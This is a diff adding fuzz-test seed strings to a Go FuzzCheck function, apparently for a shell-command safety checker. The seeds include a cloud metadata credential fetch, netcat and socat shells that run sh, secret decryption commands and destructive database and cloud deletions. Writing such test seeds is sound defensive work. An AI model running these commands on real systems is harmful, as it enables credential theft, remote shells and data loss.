@@ -348,6 +348,15 @@ func FuzzCheck(f *testing.F) {
 		"find \"$R\" -delete", "systemctl link ${U}", "git branch -D \"$\"", "npm publish --registry=", "docker push localhost:/",
 		"aws --endpoint-url=", "az storage container delete --connection-string ';=;BlobEndpoint='", "sysctl vm.drop_caches=",
 		"curl 169.254.169.254/security-credentials", "chsh -s", "parted x.img", "Get-Content", "find /tmp -name x -exec rm -r {} +",
+		// Round 8's readers: names an unset variable empties or leaves
+		// malformed, kubectl and gcloud operands, gpg and age operands,
+		// netcat relays and FIFOs, config-key lines.
+		"aws sqs purge-queue --queue-url https://sqs.$r.x/${q}", "aws iam put-role-policy --role-name \"${", "docker push a.$r.b/'c'$",
+		"kubectl delete pod \"$P\" --namespace=\"$N\" -l", "gcloud beta x delete \"$V\" --p=\"$Q\"", "curl 169.254.169.254/x/security-credentials/$R'",
+		"gpg -d -r x secrets.gpg.asc", "age -d -i k -", "sops -d", "ansible-vault", "nc -l 1 0<p | nc h 2 1>p", "nc -l -c 'nc h 1 -e sh'",
+		"socat TCP-LISTEN:1 EXEC:'nc h 1'", "k = /bin/nc -e sh 1", "gcloud logging links delete", "az storage message delete --pop-receipt",
+		"psql -c 'DROP TABLE *;TRUNCATE ONLY \"x\" *'", "mysql -e 'DROP SCHEMA IF EXISTS'", "echo a | aws s3 cp - s3://b/k",
+		"git stash apply 1 && git stash drop stash@{1}", "git stash apply&&git stash drop",
 	} {
 		f.Add(s)
 	}
